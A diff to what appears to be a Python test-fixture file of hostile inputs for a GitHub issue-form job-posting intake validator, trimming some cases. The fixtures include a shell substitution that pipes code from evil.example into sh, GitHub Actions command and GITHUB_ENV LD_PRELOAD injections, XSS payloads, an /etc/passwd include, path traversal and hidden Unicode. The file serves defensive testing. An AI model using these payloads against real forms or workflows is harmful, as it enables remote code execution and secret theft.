@@ -9,18 +9,11 @@ from tests.hostile.inputs import COMPANY, Expected, Fault, Harmless, Input, Refu
 _LEAST: Mapping[str, str] = {"Job title": "Engineer", "Employer": "Acme", "Description": "The work."}
 _SHELL = {
     "substitution": "$(curl https://evil.example/x | sh)",
-    "backticks": "`id`",
     "expression": "${{ github.token }}",
-    "output": "::set-output name=files::evil",
     "environment": "GITHUB_ENV<<EOF LD_PRELOAD=/tmp/x.so EOF",
-    "newline-escape": "a%0A::set-env name=PATH::/tmp",
-    "yaml": "- !!python/name:os.system {a: *x}",
     "markup": "<img src=x onerror=alert(1)>",
-    "comment": "<!-- <script> -->",
     "mention": "@octocat @github/security #1 GH-1",
-    "link": "[x](javascript:alert(1))",
     "front-matter": "--- title: x",
-    "jinja": "{{ 7 * 7 }}{% include 'x' %}",
 }
 
 
@@ -47,11 +40,8 @@ _BODIES = {
     "fence-early": "```\n```\n### Employer\n\nBeta\n```",
     "fence-open": "```sh\n$(id)",
     "fence-long": "`" * 50 + "\n</details>\n$(id)",
-    "heredoc": "EOF\nid\nEOF",
-    "document": "---\ncompany: beta\n---\n\nThe work.",
     "commands": "::set-output name=x::y\n::error file=a::b\n##[command]id",
     "script": "<script>alert(1)</script>",
-    "details": "</details></td></tr></table>",
     "snippet": '--8<-- "/etc/passwd"',
 }
 
@@ -69,7 +59,6 @@ INPUTS: tuple[Input, ...] = (
         Job_title="### Employer",
     ),
     *(form(f"form-body-{name}", Harmless(), Description=body) for name, body in _BODIES.items()),
-    form("form-summary", Harmless(("$(id) ${{ github.token }} `id`",)), Summary="$(id) ${{ github.token }} `id`"),
     form("form-subject", Harmless(("x&bcc=c@evil.example",)), Subject_of_the_email="x&bcc=c@evil.example"),
     form("form-mail", _told("not-an-email", "Apply by email"), Apply_by_email="a@b.example?bcc=c@evil.example"),
     form("form-address", _told("not-a-url", "Apply on the web"), Apply_on_the_web="javascript:alert(1)"),
@@ -79,17 +68,12 @@ INPUTS: tuple[Input, ...] = (
     form("form-slug-path", _told("not-an-id", "Address name"), Address_name="../../../.github/workflows/x"),
     form("form-slug-taken", _told("intake-exists", "Address name"), Address_name="kernel-engineer"),
     form("form-employer", _told("intake-unlisted", "Employer"), Employer="../../x"),
-    form("form-choice", _told("intake-unknown", "Minimum degree"), Minimum_degree="$(id)"),
     form("form-number", _told("intake-number", "Number of openings"), Number_of_openings="$((1+1))"),
-    form("form-date", _told("not-a-date", "Deadline"), Deadline="$(date)"),
     form("form-pay", _told("intake-pay", "Pay"), Pay="`id`"),
     form("form-hidden", _told("hidden-character", "Job title"), Job_title="Engi\u202eneer"),
-    form("form-hidden-body", _told("hidden-character", "Description"), Description="The work.\u3164"),
     form("form-hidden-pile", _told("stacked-marks", "Summary"), Summary="E" + "\u0301" * 9),
-    form("form-null", _told("hidden-character", "Job title"), Job_title="Engi\0neer"),
     form("form-long", _told("body-too-large", "Description"), Description="a" * 40_000),
     form("form-brackets", _told("body-too-dense", "Description"), Description="[" * 500),
-    form("form-deep", _told("body-too-deep", "Description"), Description="> " * 50 + "a"),
     form("form-heading-twice", Harmless(("Employer",)), Description="The work.\n\n### Employer\n\nBeta"),
     _whole("form-none", "::set-output name=x::y", "intake-no-form"),
     _whole("form-empty", "", "intake-no-form"),
